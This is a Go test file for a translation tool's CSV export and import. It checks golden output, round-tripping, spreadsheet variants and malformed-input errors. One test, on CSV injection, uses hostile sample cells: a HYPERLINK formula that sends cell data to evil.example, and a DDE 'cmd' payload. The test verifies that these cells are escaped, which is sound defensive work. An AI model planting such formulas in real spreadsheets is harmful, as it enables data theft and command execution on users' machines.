package csvfile

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/terjime/terjime/internal/golden"
	"github.com/terjime/terjime/internal/input"
	"github.com/terjime/terjime/workflow/catalog"
)

const testdata = "../../testdata/csv"

func fixture() []catalog.Pair {
	seg := func(id, src, tgt string, st catalog.State) catalog.Segment {
		return catalog.Segment{ID: id, Source: src, Target: tgt, State: st, SourceHash: catalog.Hash(src)}
	}
	a := &catalog.Catalog{Document: "news", Locale: "tk", SourceLocale: "en", Segments: []catalog.Segment{
		seg("aaaaaaaaaaa1", "The IOM office organized the seminar.", "MHG-nyň wekilhanasy seminar gurady.", catalog.Translated),
		seg("aaaaaaaaaaa2", "Representatives of the Mejlis\nwere invited.", "Mejlisiň wekilleri\nçagyryldy.", catalog.Reviewed),
		seg("aaaaaaaaaaa3", `He said: "yes, of course".`, "", catalog.Untranslated),
		seg("aaaaaaaaaaa4", "The Ombudsman spoke first.", "Ombudsmen çykyş etdi.", catalog.Outdated),
	}}
	a.Segments[0].Terms = []string{"IOM → MHG", "seminar → seminar"}
	a.Segments[1].Note = "checked; keep the line break"
	a.Segments[3].PreviousSource = "The Ombudsman spoke."
	return []catalog.Pair{{Target: a}}
}

func TestWriteGolden(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, "en", "tk", fixture(), Options{}); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Bytes(), []byte("\uFEFFid,source,target,state,note,document,locale,previous_source,terms,context,base,escaped\r\n")) {
		t.Errorf("no byte-order mark or header: %q", b.Bytes()[:90])
	}
	golden.File(t, filepath.Join(testdata, "export.tk.csv"), b.Bytes())
}

func TestRoundTrip(t *testing.T) {
	var b bytes.Buffer
	pairs := fixture()
	if err := Write(&b, "en", "tk", pairs, Options{}); err != nil {
		t.Fatal(err)
	}
	ex, err := Read("x.csv", &b)
	if err != nil {
		t.Fatal(err)
	}
	if ex.TargetLocale != "tk" || len(ex.Units) != 4 {
		t.Fatalf("locale %q, %d units", ex.TargetLocale, len(ex.Units))
	}
	for i, s := range pairs[0].Target.Segments {
		u := ex.Units[i]
		want := catalog.Unit{Document: "news", ID: s.ID, Source: s.Source, Target: s.Target, State: s.State, StateSet: true, Base: catalog.BaseOf(&s),
			PreviousSource: s.PreviousSource, Note: s.Note, Line: u.Line}
		if !reflect.DeepEqual(u, want) {
			t.Errorf("unit %d:\n got %+v\nwant %+v", i, u, want)
		}
	}
	if ex.Units[1].Line != 4 || ex.Units[2].Line != 7 {
		t.Errorf("lines %d, %d; want 4, 7 (quoted line breaks span lines)", ex.Units[1].Line, ex.Units[2].Line)
	}
}

// TestReadSpreadsheet reads a sheet as Excel in a Russian locale saves it:
// semicolons, columns moved, an extra column, states left alone.
func TestReadSpreadsheet(t *testing.T) {
	f, err := os.Open(filepath.Join(testdata, "excel.tk.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ex, err := Read("excel.tk.csv", f)
	if err != nil {
		t.Fatal(err)
	}
	want := []catalog.Unit{
		{Document: "news", ID: "aaaaaaaaaaa1", Source: "The IOM office organized the seminar.", Target: "MHG-nyň wekilhanasy seminar gurady.", State: catalog.Translated, StateSet: true, Line: 2},
		{Document: "news", ID: "aaaaaaaaaaa3", Source: `He said: "yes, of course".`, Target: "Ol: «hawa, elbetde» diýdi.", State: catalog.Translated, StateSet: true, Line: 3},
		{Document: "news", ID: "aaaaaaaaaaa4", Source: "The Ombudsman spoke first.", Target: "Ilki bilen Ombudsmen çykyş etdi.", Line: 4},
	}
	if !reflect.DeepEqual(ex.Units, want) {
		t.Errorf("got\n%+v\nwant\n%+v", ex.Units, want)
	}
}

// A sheet whose rows spell one locale differently (a spreadsheet filled by
// hand) holds one locale.
func TestReadLocaleSpellings(t *testing.T) {
	ex, err := Parse("x.csv", []byte("id,source,target,locale\na,b,c,ru-RU\nd,e,f,ru_RU\ng,h,i,RU-ru\n"))
	if err != nil || ex.TargetLocale != "ru-RU" || len(ex.Units) != 3 {
		t.Fatalf("%v, %+v", err, ex)
	}
}

func TestReadMalformed(t *testing.T) {
	const h = "id,source,target,state\n"
	for _, tc := range []struct{ name, csv, want string }{
		{"empty", "", "x.csv:1: the file is empty"},
		{"no target column", "id,source\na,b\n", `x.csv:1: the header has no "target" column`},
		{"short row", h + "a,b,c,translated\nd,e\n", "x.csv:3:"},
		{"cut in a quoted field", h + "a,b,\"Перевод", "x.csv:2:"},
		{"bare quote", h + "a,b,say \"hi\",translated\n", "x.csv:2:"},
		{"bad state", h + "a,b,c,done\n", `x.csv:2:7: unknown state "done"`},
		{"no id", h + ",b,c,translated\n", "x.csv:2: row without an id"},
		{"duplicate", h + "a,b,c,translated\na,b,d,translated\n", "x.csv:3: segment a appears twice (first at line 2)"},
		{"two locales", "id,source,target,locale\na,b,c,ru\nd,e,f,tk\n", `x.csv:3: locale "tk", but line 2 says "ru"`},
		{"cp1251", h + "a,b,\xcf\xe5\xf0\xe5\xe2\xee\xe4,translated\n", "x.csv:2: invalid UTF-8"},
		{"duplicate column", "id,source,target,target\n", `column "target" appears twice`},
		{"bad base", "id,source,target,base\na,b,c,0123 translated\n", `x.csv:2:7: base "0123 translated"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Read("x.csv", strings.NewReader(tc.csv))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %v, want %q", err, tc.want)
			}
			var pe *input.Error
			if !errors.As(err, &pe) {
				t.Errorf("%v is not a *input.Error", err)
			}
		})
	}
}

// The attack of CSV injection: cells that a spreadsheet would run as
// formulas are written with an apostrophe before them (OWASP), and read
// back exactly as they were; a translator's own leading apostrophe, in a
// cell the export did not escape, stays.
func TestFormulasNeutralised(t *testing.T) {
	seg := func(id, src, tgt, note string) catalog.Segment {
		return catalog.Segment{ID: id, Source: src, Target: tgt, Note: note, State: catalog.Translated, SourceHash: catalog.Hash(src)}
	}
	c := &catalog.Catalog{Document: "news", Locale: "ru", SourceLocale: "en", Segments: []catalog.Segment{
		seg("aaaaaaaaaaa1", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+7 993 12 34 56", "@SUM(1+1)*cmd|' /C calc'!A0"),
		seg("aaaaaaaaaaa2", "-5 °C at night.", "\tОтступ.", "\r\nnote"),
		seg("aaaaaaaaaaa3", "'Tis the season.", "'Так уж водится.", "'=not ours'"),
	}}
	var b bytes.Buffer
	if err := Write(&b, "en", "ru", []catalog.Pair{{Target: c}}, Options{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: column %s starts a formula: %q", row[0], Columns[i], cell)
			}
		}
	}
	ex, err := Parse("back.csv", b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	for i, u := range ex.Units {
		s := c.Segments[i]
		if u.Source != s.Source || u.Target != s.Target || u.Note != strings.ReplaceAll(s.Note, "\r\n", "\n") {
			t.Errorf("%s read back as %q / %q / %q", s.ID, u.Source, u.Target, u.Note)
		}
	}

	// A translator replaces an escaped target with text of their own that
	// starts with an apostrophe: it is kept whole.
	edited := strings.Replace(b.String(), "'+7 993 12 34 56", "'Quoted' text", 1)
	if ex, err = Parse("edited.csv", []byte(edited)); err != nil {
		t.Fatal(err)
	}
	if got := ex.Units[0].Target; got != "'Quoted' text" {
		t.Errorf("the translator's text came back as %q", got)
	}
}
